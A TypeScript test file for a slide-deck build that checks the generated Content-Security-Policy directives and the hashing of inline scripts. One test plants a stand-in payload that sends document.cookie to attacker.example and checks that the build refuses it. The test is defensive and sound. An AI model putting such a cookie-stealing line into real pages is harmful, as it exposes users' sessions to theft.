import { createHash } from 'node:crypto';
import { replaceScript } from 'vite-plugin-singlefile';
import { describe, expect, it } from 'vitest';
import { contentSecurityPolicy } from '../../../src/pipeline/csp.ts';
import { withPolicy } from '../../../src/pipeline/deck-plugin.ts';
import { OWN_SCRIPTS_RULE } from '../../../src/pipeline/emitted-scripts.ts';

function directives(policy: string): Map<string, string[]> {
  return new Map(
    policy
      .split(';')
      .map((part) => part.trim().split(/\s+/))
      .map(([name, ...sources]) => [name ?? '', sources]),
  );
}

describe('Content-Security-Policy', () => {
  it('served deck: its own origin only; inline script only by hash', () => {
    const policy = directives(contentSecurityPolicy({ scriptHashes: ["'sha256-abc'"], inlineAssets: false }));
    expect(policy.get('default-src')).toEqual(["'self'"]);
    expect(policy.get('script-src')).toEqual(["'self'", "'sha256-abc'"]);
    expect(policy.get('font-src')).toEqual(["'self'"]);
    expect(policy.get('connect-src')).toEqual(["'self'"]);
    expect(policy.get('img-src')).toEqual(["'self'", 'data:']);
    expect(policy.get('frame-src')).toEqual(["'self'"]);
    for (const name of ['object-src', 'base-uri', 'form-action']) expect(policy.get(name)).toEqual(["'none'"]);
  });

  it('one-file deck: no origin at all; script by hash, fonts and icon as data: URIs, frames of the file itself', () => {
    const policy = directives(contentSecurityPolicy({ scriptHashes: ["'sha256-abc'"], inlineAssets: true }));
    expect(policy.get('default-src')).toEqual(["'none'"]);
    expect(policy.get('script-src')).toEqual(["'sha256-abc'"]);
    expect(policy.get('font-src')).toEqual(['data:']);
    expect(policy.get('img-src')).toEqual(['data:']);
    expect(policy.get('connect-src')).toEqual(["'none'"]);
  });

  it('never lists another host, a wildcard, eval or inline script, and never pairs none with a source', () => {
    for (const inlineAssets of [false, true]) {
      const policy = directives(contentSecurityPolicy({ scriptHashes: ["'sha256-abc'"], inlineAssets }));
      for (const [name, sources] of policy) {
        for (const source of sources)
          expect(source, `${name} ${source}`).toMatch(/^('self'|'none'|data:|file:|'unsafe-inline'|'sha256-.+')$/);
        if (sources.includes("'none'")) expect(sources, name).toHaveLength(1);
        if (name !== 'style-src') expect(sources, name).not.toContain("'unsafe-inline'");
      }
    }
  });

  const entry = { fileName: 'index-abc.js', code: 'console.log("deck </script> <!-- ")\n' };
  const inlined = replaceScript(
    `<script type="module" crossorigin src="./${entry.fileName}"></script>`,
    entry.fileName,
    entry.code,
    true,
  );
  const shipped = /<script[^>]*>([\s\S]*)<\/script>/.exec(inlined)![1]!;
  const hashOf = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;

  it('puts the policy first in <head> and hashes the script the build emitted exactly as it ships inline', () => {
    const page = withPolicy(
      `<!doctype html><html><head><meta charset="utf-8">${inlined}<script src="./a.js"></script></head><body></body></html>`,
      true,
      [entry],
    );
    const meta = /<head>\n<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(page);
    expect(meta, 'the meta tag comes before anything it governs').not.toBeNull();
    expect(directives(meta![1]!).get('script-src')).toEqual([hashOf(shipped)]);
  });

  it('never hashes an inline script the build did not write: the build refuses it, naming the slide', () => {
    const injected = 'fetch("https://attacker.example/"+document.cookie)';
    const page = `<!doctype html><html><head>${inlined}</head><body><section id="year-2016"><svg><script>${injected}</script></svg></section></body></html>`;
    expect(() => withPolicy(page, true, [entry])).toThrow(
      new RegExp(`^${OWN_SCRIPTS_RULE}: index\\.html, slide 'year-2016': .*attacker\\.example.*Fix: `),
    );
    // Even a copy of the emitted script's text is refused in the served deck, which inlines nothing.
    expect(() => withPolicy(`<html><head></head><body><script>${shipped}</script></body></html>`, false, [])).toThrow(
      OWN_SCRIPTS_RULE,
    );
    expect(() =>
      withPolicy(
        `<html><head></head><body><SCRIPT type="text/javascript">${injected}</SCRIPT></body></html>`,
        false,
        [],
      ),
    ).toThrow(/outside the slides/);
  });

  it('served deck: no inline script at all, so the policy lists no hash (the speaker view runs no script of its own)', () => {
    const page = withPolicy(
      '<html><head></head><body><script type="module" src="./index.js"></script></body></html>',
      false,
      [entry],
    );
    const policy = /content="([^"]+)"/.exec(page)![1]!;
    expect(directives(policy).get('script-src')).toEqual(["'self'"]);
  });
});
